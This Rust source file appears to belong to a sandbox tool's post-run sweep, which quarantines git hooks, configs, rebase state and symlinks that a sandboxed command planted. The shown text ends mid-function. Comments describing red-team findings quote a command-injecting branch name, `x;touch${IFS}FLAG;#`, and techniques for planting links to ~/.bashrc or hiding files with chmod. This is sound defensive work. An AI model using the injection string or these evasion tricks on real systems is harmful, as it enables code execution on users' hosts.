//! After the run: protected paths the sandbox created (they did not exist at the start, so no
//! read-only mount could cover them) are moved out of the way and reported.
//!
//! The sandbox is dead when this runs (its pid namespace is gone), so nothing races it.
//! Only directories whose ctime moved since the planner listed them are listed again (see
//! [`crate::DirStamps`]): any entry created, removed or renamed moves it.
//! Quarantine keeps the content: `<root>/.stockade/quarantine/<run-id>/<relative path>`.
//! What stays: git's `*.sample` hooks and a new repository's config when it only holds keys
//! that run nothing (`git init` and `git remote add` output). Submodule git dirs (`.git/modules`)
//! are treated the same way, and a new `.git` that is not a directory (a `gitdir:` file or a
//! symlink, which would send host git to another repository's hooks) is moved out whole. A
//! directory git accepts as a git dir that was not one at the start, whatever its name, loses
//! its live config, non-sample hooks and `commondir` ([`crate::planted_git`]).
//!
//! No mode hides anything: a directory the run left unreadable, unsearchable or unwritable is
//! opened up through descriptors to be looked into and given its exact mode back afterwards
//! (`Inspect`); one that still cannot be listed is reported ([`UNINSPECTABLE_DIRECTORY`])
//! and quarantined whole, never taken for an empty one.

use std::collections::BTreeSet;
use std::ffi::OsString;
use std::io::{Read, Write};
use std::os::fd::{AsFd, OwnedFd};
use std::path::{Path, PathBuf};

use rustix::fs::{FileType, Mode, OFlags};

pub use protect::git_config_is_inert;

use policy::is_within;

use crate::beneath::{is_denied, move_no_replace, read_link_child, symlink_child, Opened, Root};
use crate::host::{HostView, Kind};
use crate::planted_git;
use crate::walk::{in_git_modules, walk, Stamps};
use crate::Resolved;

pub use sandbox::Violation;

/// Minimal config git writes for a new repository, used when a new config had to be replaced.
const MINIMAL_GIT_CONFIG: &str =
    "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n";

/// What a backend held during the run, which decides what the sweep after it must do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Held {
    /// A creation guard refused git's paths and the protected names as they were made
    /// (native's mediated creation). Without one, [`guard_after_run`] does its job after.
    pub creation_guard: bool,
    /// Directories holding read-only paths could not be renamed (the host kernel refuses with
    /// `EBUSY`). Without that (gVisor's Sentry allows it), [`replaced_protected`] first moves
    /// the originals back.
    pub pinned: bool,
}

/// Every check after a run, in the order that keeps each one honest: the originals of
/// protected paths go back first (so everything after looks at the tree as it will stay),
/// then the sweep, then what the creation guard would have refused (its ctime after
/// `started`).
///
/// All three see the tree through `Inspect`: a directory the run left unreadable or
/// unsearchable is opened up to be looked into, and given its mode back at the end.
///
/// `staged`: protected paths the backend kept out of the command's reach by giving it a copy
/// (gVisor's staged git dirs): another file there after the run is the host's doing, never
/// the run's, and is left alone.
pub fn after_run(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
    held: Held,
    started: std::time::SystemTime,
    staged: &[PathBuf],
) -> Vec<Violation> {
    let inspect = Inspect::new(host, run);
    let out = after_run_inspecting(run, &inspect, run_id, held, started, staged);
    inspect.restore();
    out
}

fn after_run_inspecting(
    run: &Resolved,
    host: &Inspect<'_>,
    run_id: &str,
    held: Held,
    started: std::time::SystemTime,
    staged: &[PathBuf],
) -> Vec<Violation> {
    let own_dirs = || -> Vec<PathBuf> {
        let dirs = run.watch.sweep.roots.iter().map(|r| r.join(".stockade"));
        dirs.filter(|d| host.lstat_kind(d).is_some()).collect()
    };
    let mut out = Vec::new();
    // A `.stockade` the restore made (its quarantine) is stockade's own, not the run's.
    let before = own_dirs();
    if !held.pinned {
        out.extend(replaced_protected(run, host, run_id, staged));
    }
    // Both backends: native's creation guard refuses the new link during the run, so there
    // this finds nothing unless a link on the way changed.
    let (replaced, restored) = replaced_links(run, host, run_id);
    out.extend(replaced);
    let mut ours = own_dirs();
    ours.retain(|d| !before.contains(d));
    out.extend(sweep_inspecting(run, host, run_id, &ours, &restored));
    out.extend(git_state_after(run, host, run_id));
    out.extend(links_in_git_dirs(run, host, run_id, started));
    // With a creation guard (native), what others made where git looks: the guard refused
    // the run's own creations, not its writes to a file someone else made during the run.
    if held.creation_guard {
        out.extend(made_by_others(run, host, run_id, started, &restored));
    } else {
        out.extend(guard_after(run, host, run_id, started, &restored, staged));
    }
    out
}

/// With the creation guard (native): what someone else made during the run where git looks,
/// which the run could then write (the guard refuses the run's creations, not its writes to
/// a file that exists; red team issue 32d third pass, and issue 32 fifth pass). Quarantined:
/// - git's exact paths that were absent at the start ([`crate::SweepPlan::git_absent`]) and
///   exist now (an `include.path` target, a `core.hooksPath`, a `config.worktree`), but a
///   config whose keys all run nothing, which stays (the user's `git sparse-checkout` or
///   `git config --worktree` beside the run);
/// - in a worktree added during the run (the user's `git worktree add` beside it; nothing
///   kept its files read-only), a `commondir` that does not send git back to its own git dir
///   (`../..`, what git writes) and a `config.worktree` with a live key.
///
/// A path of git's present at the start is read-only during the run, and not looked at here
/// whatever its ctime (the user's `git config` beside the run is the user's). Not paths of
/// the policy's (`~/.ssh`, `~/.local/bin` of a home workspace: the user's own, made beside
/// the run, red team issue 32 fifth pass).
fn made_by_others(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
    started: std::time::SystemTime,
    restored: &[PathBuf],
) -> Vec<Violation> {
    let roots = &run.watch.sweep.roots;
    let root_of = |p: &Path| roots.iter().find(|r| is_within(p, r) && p != r.as_path());
    let writable: Vec<&[u8]> = roots
        .iter()
        .map(|r| r.as_os_str().as_encoded_bytes())
        .collect();
    let text = |root: &Path, p: &Path| open_git_config(root, p).map(|(_, t)| t);
    let inert =
        |root: &Path, p: &Path| text(root, p).is_some_and(|t| git_config_is_inert(&t, &writable));
    let new_since = |p: &Path| host.lstat_ctime(p).is_some_and(|t| t >= started);
    // Exactly what git writes: git strips only a trailing newline (and carriage return) from
    // a `commondir`, so `../.. ` (a space) is a directory named `.. ` to git, one the run can
    // make (red team issue 32, fifth round, second pass).
    let home = |mut t: Vec<u8>| {
        while t.last().is_some_and(|b| *b == b'\n' || *b == b'\r') {
            t.pop();
        }
        t == b"../.."
    };
    let mut found: BTreeSet<PathBuf> = BTreeSet::new();
    for p in &run.watch.sweep.git_absent {
        let Some(root) = root_of(p) else { continue };
        let redirect = p
            .file_name()
            .is_some_and(|n| n == "commondir" || n == "gitdir");
        match host.lstat_kind(p) {
            None => {}
            Some(Kind::File) if !redirect && inert(root, p) => {}
            Some(_) => {
                found.insert(p.clone());
            }
        }
    }
    for d in &run.watch.sweep.git_dirs {
        let worktrees = d.join("worktrees");
        let Some(root) = root_of(&worktrees) else {
            continue;
        };
        let Ok(entries) = host.try_list_dir(&worktrees) else {
            continue;
        };
        for (name, kind) in entries {
            if kind != Kind::Dir {
                continue;
            }
            let commondir = worktrees.join(&name).join("commondir");
            if new_since(&commondir) && !text(root, &commondir).is_some_and(home) {
                found.insert(commondir);
            }
            let config = worktrees.join(&name).join("config.worktree");
            if new_since(&config) && !inert(root, &config) {
                found.insert(config);
            }
        }
    }
    let mut out = Vec::new();
    quarantine_created(roots, found, restored, run_id, &mut out);
    out
}

/// Quarantines each of `found` as a protected path created during the run, but those in
/// `restored` (the user's own, made again by [`replaced_links`]) and those below one already
/// moved; returns the paths moved.
fn quarantine_created(
    roots: &[PathBuf],
    found: BTreeSet<PathBuf>,
    restored: &[PathBuf],
    run_id: &str,
    out: &mut Vec<Violation>,
) -> Vec<PathBuf> {
    let mut moved: Vec<PathBuf> = Vec::new();
    for path in found {
        if moved.iter().any(|m| is_within(&path, m)) || restored.contains(&path) {
            continue;
        }
        let Some(root) = roots.iter().find(|r| is_within(&path, r)) else {
            continue;
        };
        out.push(quarantine(root, &path, run_id, "protected_path_created"));
        moved.push(path);
    }
    moved
}

/// Find protected paths created during the run and neutralise them.
pub fn sweep(run: &Resolved, host: &dyn HostView, run_id: &str) -> Vec<Violation> {
    sweep_skipping(run, host, run_id, &[])
}

/// [`sweep`], leaving alone the paths in `ours`: a `<root>/.stockade` that stockade itself
/// made after the run ([`replaced_protected`]'s quarantine), which would otherwise look like a
/// protected path the run created.
pub fn sweep_skipping(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
    ours: &[PathBuf],
) -> Vec<Violation> {
    let inspect = Inspect::new(host, run);
    let out = sweep_inspecting(run, &inspect, run_id, ours, &[]);
    inspect.restore();
    out
}

/// Violation kind of a directory the sweep could not look into, even after opening it up
/// (see `Inspect`): it is quarantined whole, since what the run left in it was never
/// checked.
pub const UNINSPECTABLE_DIRECTORY: &str = "uninspectable_directory";

/// Violation kind of a writable root whose path leads through a symbolic link after the run
/// (a directory above it replaced): not swept, nothing moved.
pub const WRITABLE_ROOT_REPLACED: &str = "writable_root_replaced";

/// What to do about a [`WRITABLE_ROOT_REPLACED`] root: no policy line lets a run do this, and
/// the general answer (make the change on the host, `unprotect`) does not apply.
const WRITABLE_ROOT_REPLACED_HINT: &str = "no policy line allows this: a directory on the writable root's path is now a symbolic link (a run's command, or another process, put it there); remove the link, put the directory back (its old contents may be where the link's run moved them), and look at where the link led before the next run";

/// The host as the checks after a run see it: a directory in a writable root that cannot be
/// listed, or listed but not searched (its entries cannot be looked at), is opened up (its
/// owner's bits, through descriptors: [`Opened`]) and listed again. Every mode goes back
/// exactly at [`Inspect::restore`] (or on drop). Without this, `chmod 000 d` (or `111`, `311`,
/// `444`) at the end of a run hid from the sweep whatever `d` held: a link into a masked
/// path, a nested repository's hook, an `.envrc`.
///
/// A directory that was closed to the caller before the run and untouched since
/// ([`closed_since_before`]) is left as it is: the run could not reach into it either, and a
/// user's own `chmod 000 private` is not the sweep's to change.
pub(crate) struct Inspect<'a> {
    host: &'a dyn HostView,
    roots: &'a [PathBuf],
    /// Before when a directory's ctime proves it unchanged since the plan
    /// ([`crate::DirStamps::settled_before`]).
    planned: Option<std::time::SystemTime>,
    opened: std::cell::RefCell<Opened>,
}

impl<'a> Inspect<'a> {
    pub(crate) fn new(host: &'a dyn HostView, run: &'a Resolved) -> Inspect<'a> {
        Inspect {
            host,
            roots: &run.watch.sweep.roots,
            planned: run.watch.sweep.dirs.settled_before(),
            opened: std::cell::RefCell::new(Opened::default()),
        }
    }

    /// Opens up `dir` and the way to it from its writable root; never a directory closed
    /// before the run and untouched since ([`closed_since_before`]).
    fn open_up(&self, dir: &Path) -> std::io::Result<()> {
        if closed_since_before(self.planned, self.host, dir) {
            return Err(std::io::Error::from_raw_os_error(libc::EACCES));
        }
        let Some(root) = self.roots.iter().find(|r| is_within(dir, r)) else {
            return Err(std::io::Error::other("not in a writable root"));
        };
        let r = Root::open_exact(root)?;
        self.opened
            .borrow_mut()
            .open_up(root, &r, relative(root, dir))
    }

    /// Puts back the mode of every directory opened up. One that cannot be given its mode
    /// back (removed meanwhile, a read-only remount) stays more open than the run left it,
    /// never less: nothing to report.
    pub(crate) fn restore(&self) {
        let _ = self.opened.borrow_mut().restore();
    }
}

impl HostView for Inspect<'_> {
    fn stat(&self, path: &Path) -> Option<crate::host::Entry> {
        self.host.stat(path)
    }
    fn lstat_kind(&self, path: &Path) -> Option<Kind> {
        let kind = self.host.lstat_kind(path);
        // Not there, or in a directory closed to the caller (an exact path of the guard's
        // below a directory the run left at mode 000): open the way and look again.
        if kind.is_none() && rustix::fs::lstat(path).err() == Some(rustix::io::Errno::ACCESS) {
            if let Some(parent) = path.parent() {
                if self.open_up(parent).is_ok() {
                    return self.host.lstat_kind(path);
                }
            }
        }
        kind
    }
    fn canonicalize(&self, path: &Path) -> Option<PathBuf> {
        self.host.canonicalize(path)
    }
    fn list_dir(&self, path: &Path) -> Vec<(OsString, Kind)> {
        self.try_list_dir(path).unwrap_or_default()
    }
    fn try_list_dir(&self, path: &Path) -> std::io::Result<Vec<(OsString, Kind)>> {
        let entries = match self.host.try_list_dir(path) {
            Err(e) if is_denied(&e) => {
                self.open_up(path)
                    .map_err(|why| std::io::Error::new(e.kind(), format!("{e}; {why}")))?;
                self.host.try_list_dir(path)?
            }
            r => r?,
        };
        // Listed but not searchable (mode 444, 666): its entries cannot be looked at.
        let search = rustix::fs::accessat(
            rustix::fs::CWD,
            path,
            rustix::fs::Access::EXEC_OK,
            rustix::fs::AtFlags::EACCESS,
        );
        if search == Err(rustix::io::Errno::ACCESS) {
            self.open_up(path)?;
        }
        Ok(entries)
    }
    fn read_small(&self, path: &Path) -> Option<String> {
        self.host.read_small(path)
    }
    fn read_lossy(&self, path: &Path, limit: usize) -> Option<String> {
        self.host.read_lossy(path, limit)
    }
    fn read_bytes(&self, path: &Path, limit: usize) -> Option<Vec<u8>> {
        self.host.read_bytes(path, limit)
    }
    fn dir_stamp(&self, path: &Path) -> Option<crate::host::DirStamp> {
        self.host.dir_stamp(path)
    }
    fn dir_stamp_at(
        &self,
        parent: Option<&crate::host::DirHandle>,
        path: &Path,
        open: bool,
    ) -> (
        Option<crate::host::DirStamp>,
        Option<crate::host::DirHandle>,
    ) {
        self.host.dir_stamp_at(parent, path, open)
    }
    fn list_dir_stamped(
        &self,
        path: &Path,
    ) -> (Option<crate::host::DirStamp>, Vec<(OsString, Kind)>) {
        self.host.list_dir_stamped(path)
    }
    fn local_ctime(&self, path: &Path) -> bool {
        self.host.local_ctime(path)
    }
    fn lstat_ctime(&self, path: &Path) -> Option<std::time::SystemTime> {
        self.host.lstat_ctime(path)
    }
}

/// A directory the sweep could not list that the run cannot have used either: it was there
/// before the run and unchanged since (its ctime, on a local filesystem, is older than the
/// plan by the settling window: creating, removing or renaming an entry, or a `chmod`, moves
/// it), and the caller cannot even search it. The sandbox has the caller's own rights on the workspace, so it
/// could not reach below it either (a directory of another user, say).
fn closed_since_before(
    planned: Option<std::time::SystemTime>,
    host: &dyn HostView,
    dir: &Path,
) -> bool {
    let Some(start) = planned else {
        return false;
    };
    let settled = host.local_ctime(dir) && host.lstat_ctime(dir).is_some_and(|t| t < start);
    settled && !crate::walk::searchable_by_caller(dir)
}

/// Whether `path` lies inside a directory the planner could not list and masked whole
/// (`SweepPlan::closed`), still the same directory: the command saw only the mask, so what
/// it holds is not the command's (a directory of that name made in its place is checked).
fn in_closed(run: &Resolved, host: &dyn HostView, path: &Path) -> bool {
    (run.watch.sweep.closed.iter()).any(|(dir, id)| {
        path != dir
            && is_within(path, dir)
            && host.lstat_kind(dir) == Some(Kind::Dir)
            && host.stat(dir).is_some_and(|e| (e.dev, e.ino) == *id)
    })
}

/// Whether `dir` is, or lies inside, a directory the planner masked whole, still the same
/// directory: the command saw only the mask, so the sweep failing to list it (a tree deeper
/// than `PATH_MAX` that was there before the run: its deepest maskable ancestor was masked)
/// says nothing about the run, and the user's data is not the sweep's to move.
fn in_or_is_closed(run: &Resolved, host: &dyn HostView, dir: &Path) -> bool {
    (run.watch.sweep.closed.iter()).any(|(closed, id)| {
        is_within(dir, closed)
            && host.lstat_kind(closed) == Some(Kind::Dir)
            && host.stat(closed).is_some_and(|e| (e.dev, e.ino) == *id)
    })
}

/// Quarantines the directory `dir` the sweep could not look into, saying why.
fn uninspectable(root: &Path, dir: &Path, why: &std::io::Error, run_id: &str) -> Violation {
    let mut v = quarantine(root, dir, run_id, UNINSPECTABLE_DIRECTORY);
    v.action = format!(
        "the sweep could not look inside it ({why}), so nothing the run left there was checked: {}",
        v.action
    );
    v
}

/// `restored`: protected links [`replaced_links`] made again (new, but the user's own).
fn sweep_inspecting(
    run: &Resolved,
    host: &Inspect<'_>,
    run_id: &str,
    ours: &[PathBuf],
    restored: &[PathBuf],
) -> Vec<Violation> {
    let SweepWalk {
        mut found,
        mut links,
        maybe_planted,
        unlisted,
        replaced,
    } = walk_roots(run, host, ours);
    let mut linked = Vec::new();
    // Judged once the walk is done: every directory on a link's way that the run closed has
    // been opened up by then (`l -> d/x` with `d` at mode 000 and `d/x -> ~/.ssh`).
    links.retain(|l| !restored.contains(l) && new_link_into_mask(run, host, l));
    for link in links {
        if let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(&link, r)) {
            linked.push(quarantine(root, &link, run_id, "symlink_to_masked_path"));
        }
    }
    found.sort();
    let writable: Vec<&[u8]> = run
        .watch
        .sweep
        .roots
        .iter()
        .map(|r| r.as_os_str().as_encoded_bytes())
        .collect();
    let already: BTreeSet<PathBuf> = found.iter().cloned().collect();
    let mut s = Sweeping {
        run,
        host,
        run_id,
        writable,
        out: replaced,
        moved: Vec::new(),
    };
    s.protected_created(found);
    s.unlisted(unlisted);
    s.planted_git_dirs(maybe_planted, &already);
    let mut out = s.out;
    out.extend(linked);
    out.extend(hidden_changes(run, host));
    out
}

/// What the sweep's walk of the writable roots found ([`walk_roots`]).
struct SweepWalk {
    /// Protected paths the run made.
    found: Vec<PathBuf>,
    /// Symlinks in changed directories, not yet judged.
    links: Vec<PathBuf>,
    /// Directories holding a config, hooks or a commondir that were not git dirs at the start.
    maybe_planted: BTreeSet<PathBuf>,
    /// Directories the walk could not list, with the reason.
    unlisted: Vec<(PathBuf, std::io::Error)>,
    /// Roots not walked: replaced by a link during the run.
    replaced: Vec<Violation>,
}

/// Walks each writable root through the directories the run changed.
fn walk_roots(run: &Resolved, host: &Inspect<'_>, ours: &[PathBuf]) -> SweepWalk {
    let mut found = Vec::new();
    let mut links = Vec::new();
    // Directories holding a config, hooks or a commondir that were not git dirs at the start.
    let mut maybe_planted: BTreeSet<PathBuf> = BTreeSet::new();
    let mut count = 0usize;
    let mut unlisted: Vec<(PathBuf, std::io::Error)> = Vec::new();
    let mut replaced: Vec<Violation> = Vec::new();
    for root in &run.watch.sweep.roots {
        if let Some(v) = root_replaced(root) {
            replaced.push(v);
            continue;
        }
        let known = Stamps::SkipUnchanged(&run.watch.sweep.dirs);
        let globs = &run.watch.deny_globs;
        // Every symlink in a changed directory is looked at too: one into a masked path
        // would hand the secret to the host tools that follow it after the run.
        // And every `HEAD`: a git dir made during the run needs neither a config nor hooks
        // (red team issue 32, eighth round, fourth pass: a new repository without them kept a
        // link the user's commit wrote through).
        let concern = |name: &std::ffi::OsStr, kind: Kind| {
            kind == Kind::Symlink || name == "HEAD" || globs.may_concern(name)
        };
        let _ = walk(
            host,
            root,
            &mut count,
            known,
            &concern,
            &mut |path, kind| {
                if globs.is_protected(path, kind)
                    && run.watch.sweep.existing.get(path) != Some(&kind)
                    && !ours.iter().any(|o| is_within(path, o))
                    && !in_closed(run, host, path)
                {
                    found.push(path.to_path_buf());
                } else if kind == Kind::Symlink {
                    links.push(path.to_path_buf());
                }
                if let (Some(name), Some(parent)) = (path.file_name(), path.parent()) {
                    if (planted_git::is_code_name(name) || name == "HEAD")
                        && !run.watch.sweep.git_dirs.contains(parent)
                    {
                        maybe_planted.insert(parent.to_path_buf());
                    }
                }
            },
            &mut |dir, e| unlisted.push((dir.to_path_buf(), e)),
        );
    }
    SweepWalk {
        found,
        links,
        maybe_planted,
        unlisted,
        replaced,
    }
}

/// The violation of a writable root the sweep does not walk, if it is one.
fn root_replaced(root: &Path) -> Option<Violation> {
    // A root reached only through a link: a directory above it (in another writable root,
    // or swapped by whoever could) replaced during the run. Not walked, nothing moved:
    // the link leads wherever the run chose (red team of issue 33, tenth round: a no-op
    // run under Docker had the sweep, as root, quarantine a victim directory's `.bashrc`,
    // `.envrc` and hooks).
    if let Err(e) = Root::open_exact(root) {
        use rustix::io::Errno;
        if matches!(Errno::from_io_error(&e), Some(Errno::LOOP | Errno::NOTDIR)) {
            return Some(Violation {
                allow: Some(WRITABLE_ROOT_REPLACED_HINT),
                code: sandbox::Code::SandboxViolation,
                kind: WRITABLE_ROOT_REPLACED,
                path: root.to_path_buf(),
                action: format!(
                    "not swept ({e}): a directory on its path was replaced by a symbolic link during the run, and nothing where it leads was looked at or moved; put the directory back by hand, and look at where the link leads"
                ),
            });
        }
    }
    None
}

/// The sweep acting on what its walk found: what it did so far (`out`) and what it moved
/// away whole (`moved`: nothing below those is acted on again).
struct Sweeping<'a, 'h> {
    run: &'a Resolved,
    host: &'a Inspect<'h>,
    run_id: &'a str,
    writable: Vec<&'a [u8]>,
    out: Vec<Violation>,
    moved: Vec<PathBuf>,
}

impl Sweeping<'_, '_> {
    /// The protected paths the run made (`found`): quarantined, a config neutralised, the
    /// hooks of a hooks directory quarantined one by one.
    fn protected_created(&mut self, mut found: Vec<PathBuf>) {
        let (run, host, run_id) = (self.run, self.host, self.run_id);
        let (out, moved) = (&mut self.out, &mut self.moved);
        // The quarantine lives in `<root>/.stockade`; one the sandbox created (possibly a symlink
        // to somewhere else) is quarantined first, so nothing below is written through it.
        found.sort_by_key(|p| {
            let is_own_dir = run
                .watch
                .sweep
                .roots
                .iter()
                .any(|r| p == &r.join(".stockade"));
            (!is_own_dir, p.clone())
        });
        for path in found {
            if moved.iter().any(|m| is_within(&path, m)) {
                continue;
            }
            let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(&path, r)) else {
                continue;
            };
            // Inside a git dir: the top-level `.git` or a submodule's under `.git/modules`.
            let in_gitdir = path
                .parent()
                .is_some_and(|p| p.file_name().is_some_and(|n| n == ".git") || in_git_modules(p));
            let is_hooks = in_gitdir && path.file_name().is_some_and(|n| n == "hooks");
            let is_git_config = in_gitdir && path.file_name().is_some_and(|n| n == "config");
            if is_hooks && host.lstat_kind(&path) == Some(Kind::Dir) {
                match host.try_list_dir(&path) {
                    Ok(hooks) => {
                        for (name, _) in hooks {
                            if name.to_string_lossy().ends_with(".sample") {
                                continue;
                            }
                            let hook = path.join(&name);
                            out.push(quarantine(root, &hook, run_id, "protected_path_created"));
                        }
                    }
                    Err(e) => {
                        out.push(uninspectable(root, &path, &e, run_id));
                        moved.push(path);
                    }
                }
            } else if is_git_config && host.lstat_kind(&path) == Some(Kind::File) {
                out.extend(neutralise_config(
                    host,
                    (root, &path),
                    run_id,
                    "protected_path_created",
                    &self.writable,
                ));
            } else {
                out.push(quarantine(root, &path, run_id, "protected_path_created"));
                moved.push(path);
            }
        }
    }

    /// The directories the walk could not list (`unlisted`).
    fn unlisted(&mut self, unlisted: Vec<(PathBuf, std::io::Error)>) {
        let (run, host, run_id) = (self.run, self.host, self.run_id);
        // What the walk could not list, even opened up: quarantined whole (not inspected, so not
        // passed), unless the run cannot have reached into it.
        for (dir, e) in unlisted {
            if matches!(e.raw_os_error(), Some(libc::ENOENT) | Some(libc::ENOTDIR))
                || self.moved.iter().any(|m| is_within(&dir, m))
                || closed_since_before(run.watch.sweep.dirs.settled_before(), host, &dir)
                || in_or_is_closed(run, host, &dir)
            {
                continue;
            }
            let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(&dir, r)) else {
                continue;
            };
            self.out.push(uninspectable(root, &dir, &e, run_id));
            self.moved.push(dir);
        }
    }

    /// The directories that gained a git dir's code during the run (`maybe_planted`) and that
    /// git would take for a git dir: their code neutralised (what is `already` a protected
    /// path the run made was dealt with as such), and the state and links of a new one.
    fn planted_git_dirs(&mut self, maybe_planted: BTreeSet<PathBuf>, already: &BTreeSet<PathBuf>) {
        let (run, host, run_id) = (self.run, self.host, self.run_id);
        let out = &mut self.out;
        for dir in maybe_planted {
            let Some(root) = run.watch.sweep.roots.iter().find(|r| is_within(&dir, r)) else {
                continue;
            };
            // A linked worktree's admin dir as git makes it (the user's `git worktree add`
            // beside a run): its common dir is the `.git` above it, whose hooks and config git
            // runs; its own worktree files have rules of their own.
            if self.moved.iter().any(|m| is_within(&dir, m))
                || crate::git::is_plain_worktree_admin_dir(host, &dir)
                || !planted_git::accepted_by_git(host, &dir)
            {
                continue;
            }
            for name in ["config", "config.worktree", "hooks", "commondir"] {
                let path = dir.join(name);
                // A new `.git`'s config and hooks went through the protected paths above.
                if already.contains(&path) {
                    continue;
                }
                out.extend(neutralise_code_path(
                    host,
                    (root, &path),
                    run_id,
                    &self.writable,
                ));
            }
            // A git dir made during the run had no state (any that runs code is the run's), nor
            // a link of the user's.
            if !run.watch.sweep.git_dirs.contains(&dir) {
                for rel in protect::git_state::STATE_FILES {
                    out.extend(armed_git_state(host, root, &dir.join(rel), b"", run_id));
                }
                let known = &run.watch.sweep.git_dirs;
                out.extend(links_in_git_dir(host, (root, &dir), known, None, run_id));
            }
        }
    }
}

/// Violation kind of git's state of a stopped rebase or sequence that gained a line that runs
/// code when git goes on ([`protect::git_state`]).
pub const GIT_STATE_ARMED: &str = "git_state_armed";

/// Git's state of a stopped rebase or sequence in the git dirs of the plan
/// ([`crate::SweepPlan::git_state`]) that the run left holding what runs code on the host's
/// `git rebase --continue` or `git cherry-pick --continue` (an `exec` line, a merge strategy
/// not git's own) and did not hold at the start: quarantined, so that git stops there with
/// "could not read" instead. Both backends: nothing during the run judges what is written
/// into a file that exists (red team issue 32, seventh round).
fn git_state_after(run: &Resolved, host: &dyn HostView, run_id: &str) -> Vec<Violation> {
    let roots = &run.watch.sweep.roots;
    let planned = &run.watch.sweep.git_state;
    let mut out = Vec::new();
    for (path, before) in planned {
        let Some(root) = roots.iter().find(|r| is_within(path, r) && path != *r) else {
            continue;
        };
        out.extend(armed_git_state(host, root, path, before, run_id));
    }
    // A worktree added during the run had no state.
    let git_dirs: BTreeSet<&Path> = (planned.iter())
        .filter_map(|(p, _)| p.parent()?.parent())
        .collect();
    for dir in git_dirs {
        for worktree in crate::git::worktree_dirs(host, dir) {
            let Some(root) = roots.iter().find(|r| is_within(&worktree, r)) else {
                continue;
            };
            for rel in protect::git_state::STATE_FILES {
                let path = worktree.join(rel);
                if !planned.iter().any(|(p, _)| *p == path) {
                    out.extend(armed_git_state(host, root, &path, b"", run_id));
                }
            }
        }
    }
    out
}

/// [`GIT_STATE_ARMED`] for one state file, `before` its content at the start: `None` when it
/// is absent or holds no live line `before` did not. One that is not a regular file reached
/// through no link, or cannot be read whole, counts as armed.
fn armed_git_state(
    host: &dyn HostView,
    root: &Path,
    path: &Path,
    before: &[u8],
    run_id: &str,
) -> Option<Violation> {
    host.lstat_kind(path)?;
    let rel = (protect::git_state::STATE_FILES.into_iter()).find(|r| path.ends_with(r))?;
    let limit = protect::git_state::STATE_LIMIT;
    let after = Root::open_exact(root)
        .and_then(|r| r.open_beneath(relative(root, path), OFlags::RDONLY | OFlags::NONBLOCK))
        .ok()
        .filter(|fd| {
            rustix::fs::fstat(fd)
                .is_ok_and(|st| FileType::from_raw_mode(st.st_mode) == FileType::RegularFile)
        })
        .and_then(|fd| {
            let mut text = Vec::new();
            let file = std::fs::File::from(fd);
            file.take(limit as u64 + 1).read_to_end(&mut text).ok()?;
            Some(text)
        });
    let armed = match after {
        Some(after) => protect::git_state::gained_live_lines(rel, before, &after),
        None => true,
    };
    if !armed {
        return None;
    }
    // Git follows a link on the way (`rebase-merge -> elsewhere`), the quarantine does not:
    // the link itself goes (red team issue 32, eighth round: the file behind it stayed).
    // (`MERGE_RR` lies in the git dir itself: not a state dir of its own.)
    let state_dir = rel.contains('/').then(|| path.parent()).flatten();
    let link =
        (state_dir.into_iter().chain([path])).find(|p| host.lstat_kind(p) == Some(Kind::Symlink));
    let mut v = quarantine(root, link.unwrap_or(path), run_id, GIT_STATE_ARMED);
    v.allow = Some(GIT_STATE_HINT);
    Some(v)
}

/// Violation kind of a symbolic link (or FIFO, socket, device) the run made or moved into a
/// git dir.
pub const LINK_IN_GIT_DIR: &str = "link_in_git_dir";

/// Where [`links_in_git_dir`] is, as to object stores.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Store {
    /// Not in one.
    No,
    /// An object store itself (`objects`, `lfs/objects`): listed whole.
    Root,
    /// Its `pack` or `info` (or git-lfs's fan-out): listed when it changed.
    Inner,
}

/// [`links_in_git_dir`] for every git dir of the plan in a writable root (a submodule's and a
/// worktree's admin dir are inside `.git`: listed once, with it).
fn links_in_git_dirs(
    run: &Resolved,
    host: &dyn HostView,
    run_id: &str,
    started: std::time::SystemTime,
) -> Vec<Violation> {
    let roots = &run.watch.sweep.roots;
    let dirs = &run.watch.sweep.git_dirs;
    let mut out = Vec::new();
    for dir in dirs {
        let Some(root) = roots.iter().find(|r| is_within(dir, r) && dir != *r) else {
            continue;
        };
        if dirs.iter().any(|d| d != dir && is_within(dir, d)) {
            continue;
        }
        out.extend(links_in_git_dir(
            host,
            (root, dir),
            dirs,
            Some(started),
            run_id,
        ));
    }
    out
}

/// Symbolic links (and FIFOs, sockets, devices) in git dir `dir` that the run made or moved
/// there, each quarantined. Git opens many of its files for writing by name, following a
/// link: `COMMIT_EDITMSG`, the reflogs under `logs/`, rerere's `rr-cache/*/thisimage`,
/// `rebase-merge/done`, `FETCH_HEAD`. A link the run left there had the user's next
/// `git commit` write a host file of its choosing (red team issue 32, eighth round: a
/// `~/.bashrc` given the worktree's text through rerere, a reflog line naming a branch
/// `x;touch${IFS}FLAG;#`); a FIFO as `COMMIT_EDITMSG` hangs it. Git makes none of these there.
///
/// What counts as the run's (`started`; every one when `None`: a git dir made during the
/// run): one whose own ctime, or that of any of its directories below `dir`, moved since the
/// start. A link keeps its ctime when a directory holding it is renamed, but the renamed
/// directory, or the one it went into, does not: links planted by an earlier run where
/// nothing looked and moved into place by this one count (red team, third pass).
///
/// The object stores of `dir` and of the plan's git dirs `known` (`objects`, `lfs/objects`):
/// their own entries, and `pack` and `info`, not the fan-out directories of loose objects (git
/// writes an object under a temporary name and renames it, and leaves one that exists alone).
/// A directory elsewhere named `objects` is looked into (a branch `objects/main` has its
/// reflog at `logs/refs/heads/objects/main`). Not looked into: the git dirs' `hooks` (the
/// protected paths' rules). A link of the user's in a directory the run changed is taken out
/// too (rare in a git dir: `info/exclude`). No cap: a git dir the run filled is listed whole,
/// at the cost of what the run made (a cap let a run hide a link past it).
fn links_in_git_dir(
    host: &dyn HostView,
    (root, dir): (&Path, &Path),
    known: &BTreeSet<PathBuf>,
    started: Option<std::time::SystemTime>,
    run_id: &str,
) -> Vec<Violation> {
    let changed = |p: &Path| match started {
        Some(started) => host.lstat_ctime(p).is_none_or(|t| t >= started),
        None => true,
    };
